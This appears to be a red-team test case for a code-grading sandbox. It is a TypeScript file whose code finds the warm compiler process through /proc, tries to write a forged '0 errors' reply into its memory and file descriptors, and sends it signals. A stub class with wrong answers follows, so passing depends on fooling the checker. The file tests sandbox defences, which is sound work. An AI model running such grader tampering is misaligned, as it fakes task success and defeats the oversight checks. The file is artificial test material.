// redteam: task=ts_acc expect=nopass then=cases/controls/ts_acc_correct.ts:pass,cases/controls/ts_acc_wrong.ts:nopass  (finds the warm compiler process (same uid) and tries its memory, descriptors (writing a forged "0 errors" reply on any it can open); then signals it (SIGWINCH, SIGPIPE, SIGUSR1); each refused, or the worker is replaced and the victims run elsewhere)
const fs: any = require('fs');
const log = (m: string) => console.log('attack: ' + m);
const compiler: string | undefined = fs.readdirSync('/proc').filter((p: string) => /^\d+$/.test(p)).find((p: string) => {
  try { const argv = fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\0'); return argv[0] === '/usr/bin/node' && argv.some((a: string) => a.endsWith('warm_tsc.js')); } catch (_) { return false; }
});
if (compiler !== undefined) {
  for (const f of ['mem', 'fd/3', 'fd/4', 'fd/5', 'environ']) {
    try { const fd = fs.openSync('/proc/' + compiler + '/' + f, 'r+'); fs.writeSync(fd, 'forged 0 0 - 1 0\n'); log('WROTE ' + f); } catch (e: any) { log(f + ' ' + e.code); }
  }
  for (const s of ['SIGWINCH', 'SIGPIPE', 'SIGUSR1']) {
    try { process.kill(Number(compiler), s); log('sent ' + s); } catch (e: any) { log(s + ' ' + e.code); }
  }
}
class Acc {
  add(a: number, b: number): number { return 0; }
  greet(n: string): string { return ''; }
}
